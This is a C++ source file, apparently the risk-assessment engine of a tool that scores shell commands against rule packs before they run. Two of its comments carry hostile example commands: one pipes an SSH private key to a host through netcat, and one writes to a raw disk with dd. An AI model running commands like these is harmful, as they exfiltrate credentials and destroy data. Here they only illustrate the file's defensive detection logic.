// The risk engine: rule packs + reader -> Assessment.
#include "risk/engine.hpp"

#include <algorithm>
#include <cerrno>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <sstream>

#include "risk/builtin_rules.hpp"
#include "risk/effects.hpp"
#include "risk/reader.hpp"
#include "risk/rules.hpp"
#include "risk/words.hpp"

namespace vg::risk {
namespace {

// Version control commands whose message options carry prose, not commands.
bool has_messages(std::string_view base) {
  return base == "git" || base == "hg" || base == "svn" || base == "gh" || base == "glab" || base == "jj" ||
         base == "sl" || base == "fossil" || base == "bzr";
}

bool is_message_option(std::string_view a) {
  return a == "-m" || a == "--message" || a == "--title" || a == "--body" || a == "--notes" || a == "--subject";
}

// The text command rules see: base name, then each argument with paths normalized.
// A word that still starts with `~` was quoted (the reader spells an
// expanded tilde `$HOME`): it names a directory called ~, not the home.
// Commit messages and titles are data: their text is left out.
std::string command_text(const SimpleCommand& cmd) {
  std::string_view base = base_name(cmd.argv[0]);
  std::string out(base);
  bool messages = has_messages(base);
  for (std::size_t i = 1; i < cmd.argv.size(); ++i) {
    if (messages && i > 1 && is_message_option(cmd.argv[i - 1])) {
      out += " MESSAGE";
      continue;
    }
    if (messages && cmd.argv[i].rfind("--message=", 0) == 0) {
      out += " --message=MESSAGE";
      continue;
    }
    std::string a = cmd.argv[i][0] == '~' ? cmd.argv[i] : normalize_path(cmd.argv[i]);
    // key=value options keep their value normalized too (dd of=/dev/sda//).
    auto eq = a.find('=');
    if (eq != std::string::npos && eq + 1 < a.size() && (a[eq + 1] == '/' || a[eq + 1] == '~'))
      a = a.substr(0, eq + 1) + normalize_path(a.substr(eq + 1));
    out.push_back(' ');
    if (a.empty() || a.find_first_of(" \t\n") != std::string::npos)
      out += "'" + a + "'";
    else
      out += a;
  }
  // Input redirections belong to the command (`nc host 9 < ~/.ssh/id_rsa`).
  for (const auto& r : cmd.redirects)
    if (r.op == "<" || r.op == "<<<" || r.op == "<<") out += " " + r.op + " " + r.target;
  return out;
}

class EngineImpl final : public Engine {
 public:
  EngineImpl(RuleSet rules, std::vector<std::string> disabled)
      : m_rules(std::move(rules)), m_disabled(std::move(disabled)) {}

  Assessment assess_script(std::string_view script) override {
    return assess(read_script(script, m_limits, known()));
  }

  Assessment assess_argv(const std::vector<std::string>& argv) override {
    return assess(read_argv(argv, m_limits, known()));
  }

  // Check every rule's patterns and examples; every failure is listed, one per line.
  Result<void> verify() {
    std::string errors;
    for (const auto& r : m_rules.rules()) {
      if (!r->compile()) {
        errors += r->where() + ": " + r->broken + "\n";
        continue;
      }
      for (const auto& ex : r->match_examples) {
        if (!has_rule(assess_script(ex), r->id))
          errors += r->where() + ": example `" + ex + "` should match but does not\n";
      }
      for (const auto& ex : r->not_match_examples) {
        if (has_rule(assess_script(ex), r->id))
          errors += r->where() + ": example `" + ex + "` should not match but does\n";
      }
    }
    if (!errors.empty()) {
      errors.pop_back();
      return make_error(errors);
    }
    return {};
  }

 private:
  KnownCommand known() {
    return [this](std::string_view base) { return m_rules.knows(base); };
  }

  static bool has_rule(const Assessment& a, const std::string& id) {
    return std::any_of(a.findings.begin(), a.findings.end(), [&](const Finding& f) { return f.rule == id; });
  }

  void apply(const std::vector<const Rule*>& rules, const std::string& text, Span span, Assessment& out) {
    for (const Rule* r : rules) {
      if (!r->may_match(text)) continue;  // cannot match: not even compiled
      if (!r->compile()) {
        out.understood = false;
        out.reasons.push_back(r->where() + ": " + r->broken);
        continue;
      }
      if (r->matches(text)) out.findings.push_back(Finding{r->id, r->level, r->description, text, span.begin, span.end});
    }
  }

  // Assess the command lines that programs run through their options
  // (effects of kind `runs`) as scripts of their own, and merge what they
  // give into `out`, at the span of the command that runs them.
  void assess_runs(Assessment& out) {
    if (m_depth >= 4) return;
    std::vector<EffectNote> runs;
    for (const auto& e : out.effects)
      if (e.kind == EffectNote::Kind::runs) runs.push_back(e);
    for (const auto& r : runs) {
      ++m_depth;
      Assessment inner = assess(read_script(r.subject, m_limits, known()));
      --m_depth;
      for (auto f : inner.findings) {
        f.begin = r.span.begin;
        f.end = r.span.end;
        out.findings.push_back(std::move(f));
      }
      for (auto e : inner.effects) {
        e.span = r.span;
        out.effects.push_back(std::move(e));
      }
      if (!inner.understood) out.understood = false;
      for (auto& why : inner.reasons)
        if (std::find(out.reasons.begin(), out.reasons.end(), why) == out.reasons.end()) out.reasons.push_back(why);
    }
  }

  Assessment assess(const Model& m) {
    Assessment out;
    out.understood = m.understood;
    out.reasons = m.reasons;
    for (const auto& cmd : m.commands) {
      if (cmd.argv.empty()) continue;
      std::string_view base = base_name(cmd.argv[0]);
      // A command that changes nothing (--help, --dry-run) is low whatever its words say.
      if (!command_effects(cmd, out.effects))
        apply(m_rules.for_name(Target::command, base), command_text(cmd), cmd.span, out);
      if (std::find(out.executables.begin(), out.executables.end(), cmd.argv[0]) == out.executables.end())
        out.executables.push_back(cmd.argv[0]);
      if (cmd.record_as_command) {
        out.commands.push_back(CommandWord{cmd.argv[0], cmd.name_span.begin, cmd.name_span.end, cmd.span.begin,
                                           cmd.span.end, cmd.top_level});
      }
    }
    for (const auto& r : m.redirects) apply(m_rules.for_target(Target::redirect), r.op + " " + r.target, r.span, out);
    for (const auto& p : m.pipelines) apply(m_rules.for_target(Target::pipeline), p.text, p.span, out);
    for (const auto& s : m.structures) apply(m_rules.for_target(Target::structure), s.text, s.span, out);
    for (const auto& s : m.scripts) apply(m_rules.for_target(Target::script), s.text, s.span, out);
    for (const auto& c : m.code) apply(m_rules.for_name(Target::code, c.interpreter), c.text, c.span, out);
    score_effects(m, out);
    assess_runs(out);
    std::sort(out.findings.begin(), out.findings.end(), [](const Finding& a, const Finding& b) {
      if (a.level != b.level) return a.level > b.level;
      if (a.begin != b.begin) return a.begin < b.begin;
      if (a.rule != b.rule) return a.rule < b.rule;
      return a.command < b.command;
    });
    out.findings.erase(std::unique(out.findings.begin(), out.findings.end(),
                                   [](const Finding& a, const Finding& b) {
                                     return a.rule == b.rule && a.begin == b.begin && a.end == b.end;
                                   }),
                       out.findings.end());
    out.level = out.findings.empty() ? Level::low : out.findings.front().level;
    // What vg cannot place (effects of kind unknown) is at least their level, finding or not.
    for (const auto& e : out.effects)
      if (e.kind == EffectNote::Kind::unknown && e.level > out.level) out.level = e.level;
    // Nor is anything else vg could not read (code only known at run time
    // in a nested shell string was low): low must be proven. Code in
    // another language is judged by its effects (an unread one is unknown
    // there; a sed-like `perl -pi -e s///` is not).
    bool unread = std::any_of(out.reasons.begin(), out.reasons.end(), [](const std::string& r) {
      return r.find("runs code in another language") == std::string::npos;
    });
    if (!out.understood && unread && out.level < Level::medium) out.level = Level::medium;
    return out;
  }

  RuleSet m_rules;
  std::vector<std::string> m_disabled;
  Limits m_limits;
  int m_depth = 0;  // command lines run through options, nested
};

Result<std::string> read_file(const std::filesystem::path& p) {
  std::ifstream in(p, std::ios::binary);
  if (!in) return make_error("cannot read rule file " + p.string() + ": " + std::strerror(errno));
  std::ostringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

Result<void> load_path(RuleSet& rules, const std::string& path) {
  namespace fs = std::filesystem;
  std::error_code ec;
  if (fs::is_directory(path, ec)) {
    std::vector<fs::path> files;
    for (const auto& e : fs::directory_iterator(path, ec)) {
      auto ext = e.path().extension();
      if (ext == ".yaml" || ext == ".yml") files.push_back(e.path());
    }
    if (ec) return make_error("cannot list rule directory " + path + ": " + ec.message());
    std::sort(files.begin(), files.end());
    for (const auto& f : files) {
      auto text = read_file(f);
      if (!text) return text.error();
      if (auto r = rules.load(f.string(), *text); !r) return r.error();
    }
    return {};
  }
  auto text = read_file(path);
  if (!text) return make_error(text.error().message + " (from rules.paths; hint: fix or remove the entry)");
  return rules.load(path, *text);
}

}  // namespace

Result<std::unique_ptr<Engine>> Engine::create(const config::Config& config, bool verify_examples) {
  RuleSet rules;
  // Built-in packs come precompiled (no YAML at run time); user packs are
  // parsed now so that their errors show at once.
  if (auto r = rules.load_blob(builtin_rules_blob(), verify_examples); !r) return r.error();
  for (const auto& p : config.rules.paths) {
    if (auto r = load_path(rules, p); !r) return r.error();
  }
  (void)rules.disable(config.rules.disable);
  auto engine = std::make_unique<EngineImpl>(std::move(rules), config.rules.disable);
  if (verify_examples) {
    if (auto r = engine->verify(); !r) return r.error();
  }
  return std::unique_ptr<Engine>(std::move(engine));
}

}  // namespace vg::risk
